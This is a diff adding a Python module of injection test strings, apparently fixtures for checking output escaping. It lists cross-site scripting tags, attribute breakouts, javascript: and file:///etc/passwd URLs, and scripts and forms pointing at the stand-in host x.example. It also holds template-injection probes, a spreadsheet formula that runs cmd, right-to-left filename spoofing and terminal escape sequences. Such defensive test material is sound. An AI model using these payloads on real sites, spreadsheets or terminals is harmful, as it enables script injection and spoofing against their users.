@@ -1,0 +1,161 @@
+"""What somebody might write into a cell, a header, a file's name or a rule to get into a page or a terminal.
+
+Our own list, by what each kind attacks; kinds known from OWASP's cross-site scripting cheat sheets.
+"""
+
+from __future__ import annotations
+
+__all__ = ["PAYLOADS", "TERMINAL"]
+
+_TAGS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt >alert(1)</sCrIpT >",
+    "<script src=//x.example></script>",
+    "<script/x>alert(1)</script>",
+    "<script\n>alert(1)</script\n>",
+    "<<script>alert(1)//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=`x` onerror=alert(1)>",
+    '<IMG """><script>alert(1)</script>">',
+    "<image href=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
+    "<embed src=//x.example/x.swf>",
+    "<form action=//x.example><input name=a><button>b</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select onchange=alert(1)><option>1</select>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<base href=//x.example/>",
+    "<link rel=stylesheet href=//x.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//x.example'>",
+    "<style>*{background:url(//x.example)}</style>",
+    "<template><script>alert(1)</script></template>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<a href=//x.example>x</a>",
+    "<b",
+    "<!-- ",
+    " -->",
+    "--!><script>alert(1)</script>",
+    "<!DOCTYPE x [<!ENTITY y 'z'>]>",
+    "<?xml version='1.0'?><x/>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "]]>",
+)
+_CLOSERS = (
+    "</script><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</title></style></svg></textarea><svg onload=alert(1)>",
+    "</td></tr></table><h1>x</h1>",
+    "</bdi></li></ol></section></main></body></html>",
+    "</svg><script>alert(1)</script>",
+    "<bdi></bdi></td></tr></table>",
+    "</summary></details><dialog open>",
+    "<plaintext>",
+    "<xmp>",
+    "<frameset>",
+)
+_ATTRIBUTES = (
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    '" style="position:fixed;inset:0" x="',
+    '" autofocus onfocus=alert(1) x="',
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    "`><script>alert(1)</script>",
+    'x" xlink:href="javascript:alert(1)',
+    "x' style='--share:url(//x.example)",
+    "0; background: url(//x.example)",
+    "} body { display: none } .x {",
+    "expression(alert(1))",
+    "/*</style>*/<script>alert(1)</script>",
+    '\\"><script>alert(1)</script>',
+)
+_URLS = (
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "javascript&colon;alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "//x.example/x",
+    "file:///etc/passwd",
+)
+_FOREIGN = (
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<svg><use href=data:image/svg+xml,x#x /></svg>",
+    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math href=javascript:alert(1)>x</math>",
+)
+_ENTITIES = (
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&#x3c;script&#x3e;",
+    "&amp;lt;b&amp;gt;",
+    "&quot; onmouseover=alert(1)",
+    "&lt",
+    "&#0;&#1;&bogus;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003e",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+)
+_TEMPLATES = (
+    "{{7*7}}",
+    "{% raw %}{% include 'x' %}",
+    "{# x #}",
+    "{{ ''.__class__.__mro__ }}",
+    "{{ config }}{{ say.clip('x') }}",
+    "${7*7}",
+    "<%= 7*7 %>",
+    "#{7*7}",
+    "%s%n%(x)s{0}{x.__class__}",
+)
+_UNICODE = (
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "\u2039script\u203a",
+    "<\u200bscript>",
+    "\u202egpj.exe\u202c",
+    "\u2066<b>\u2069",
+    "\u2028\u2029<script>alert(1)</script>",
+    "\ufeff<script>alert(1)</script>",
+    "a\u0338<\u0338b",
+    "\u212acscript",
+    "\U000e0041\U000e0042",
+)
+_FORMULAS = ('=HYPERLINK("http://x.example")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3")
+TERMINAL = (
+    "\x1b[31mred",
+    "\x1b]8;;http://x.example\x07link\x1b]8;;\x07",
+    "\x1b]0;title\x07",
+    "\x9b31mred",
+    "\x07bell",
+    "over\rwritten",
+    "back\x08\x08",
+    "\x7f",
+    "[red]x[/red]",
+    "[link=http://x.example]x[/link]",
+)
+"""What a terminal might obey, or the library that writes to it."""
+PAYLOADS = (
+    *_TAGS,
+    *_CLOSERS,
+    *_ATTRIBUTES,
+    *_URLS,
+    *_FOREIGN,
+    *_ENTITIES,
+    *_TEMPLATES,
+    *_UNICODE,
+    *_FORMULAS,
+    *TERMINAL,
+)
